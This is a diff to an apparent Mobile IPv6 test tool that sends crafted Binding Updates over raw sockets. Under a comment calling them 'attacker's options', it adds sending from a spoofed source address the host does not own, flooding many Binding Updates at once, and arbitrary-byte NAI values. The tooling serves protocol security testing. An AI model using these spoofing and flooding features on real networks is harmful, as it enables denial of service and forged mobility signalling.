@@ -73,9 +73,43 @@ def ba_auth_ok(b, m, key, coa):
     mac = hmac.new(key, IPv6Address(coa).packed + hoa + bytes(d), hashlib.sha1).digest()[:12]
     return "ok" if hmac.compare_digest(mac, m["auth"]) else "bad"
 
-def exchange(a, data):
+def mhsock(a):
     s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 135)
-    s.bind((a.coa, 0))
+    src = a.src or a.coa
+    if a.src:  # a source this host does not own (IPV6_TRANSPARENT = 75)
+        s.setsockopt(socket.IPPROTO_IPV6, 75, 1)
+    scope = socket.if_nametoindex(a.dev) if src.lower().startswith("fe80") else 0
+    s.bind((src, 0, 0, scope))
+    return s
+
+def flood(a, datas):
+    # send every BU as fast as the socket takes it, then count the answers
+    # that arrive until a.wait seconds after the last one went out
+    s = mhsock(a); s.setblocking(False)
+    answers, t0 = 0, time.time()
+    for d in datas:
+        while True:
+            try:
+                s.sendto(d, (a.cha, 0)); break
+            except BlockingIOError:
+                time.sleep(0.0005)
+        try:
+            while True:
+                b, peer = s.recvfrom(4096)
+                answers += peer[0] == a.cha and len(b) >= 8 and b[2] in (6, 7)
+        except BlockingIOError:
+            pass
+    t1 = time.time(); s.settimeout(0.05)
+    while time.time() < t1 + a.wait:
+        try:
+            b, peer = s.recvfrom(4096)
+            answers += peer[0] == a.cha and len(b) >= 8 and b[2] in (6, 7)
+        except socket.timeout:
+            pass
+    print("sent=%d answers=%d seconds=%.3f" % (len(datas), answers, t1 - t0))
+
+def exchange(a, data):
+    s = mhsock(a)
     s.settimeout(3)
     s.sendto(data, (a.cha, 0))
     end = time.time() + 3
@@ -197,7 +231,15 @@ p.add_argument("--hnp", default="::"); p.add_argument("--lifetime", type=int, de
 p.add_argument("--ts-offset", type=float, default=0.0)
 p.add_argument("--badauth", action="store_true")
 p.add_argument("--save"); p.add_argument("--resend"); p.add_argument("--raw-type", type=int)
+# attacker's options (test_anchor): packet source other than --coa, an NAI
+# given in hex (any bytes), many BUs at once, the answer's bytes, no wait
+p.add_argument("--src"); p.add_argument("--dev", default="h0")
+p.add_argument("--nai-hex"); p.add_argument("--flood", type=int)
+p.add_argument("--wait", type=float, default=0.5)
+p.add_argument("--hex", action="store_true"); p.add_argument("--no-answer", action="store_true")
 a = p.parse_args()
+if a.nai_hex:
+    a.nai = bytes.fromhex(a.nai_hex).decode("latin-1")
 key = bytes.fromhex(open(a.keyfile).read().strip())
 if a.resend:
     data = open(a.resend, "rb").read()
@@ -207,7 +249,16 @@ else:
     data = encode_bu(a, key)
 if a.save:
     open(a.save, "wb").write(data)
+if a.flood:
+    datas = []
+    for i in range(a.flood):
+        a.seq = (a.seq + 1) & 0xffff; datas.append(encode_bu(a, key))
+    flood(a, datas); sys.exit(0)
+if a.no_answer:
+    mhsock(a).sendto(data, (a.cha, 0)); print("sent"); sys.exit(0)
 b = exchange(a, data)
+if a.hex:
+    print(b.hex()); sys.exit(0)
 m = parse(b)
 if m["type"] == 7:
     print("BE status=%d" % m["status"]); sys.exit(0)
